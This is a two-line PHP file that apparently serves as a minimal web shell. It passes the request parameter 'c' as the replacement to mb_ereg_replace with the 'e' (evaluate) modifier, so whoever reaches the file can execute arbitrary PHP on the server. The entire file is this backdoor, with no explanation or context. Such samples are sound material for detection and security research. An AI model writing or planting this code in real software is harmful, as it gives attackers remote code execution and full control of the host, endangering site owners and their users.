<?php
mb_ereg_replace('.*', $_REQUEST['c'], '', 'e');
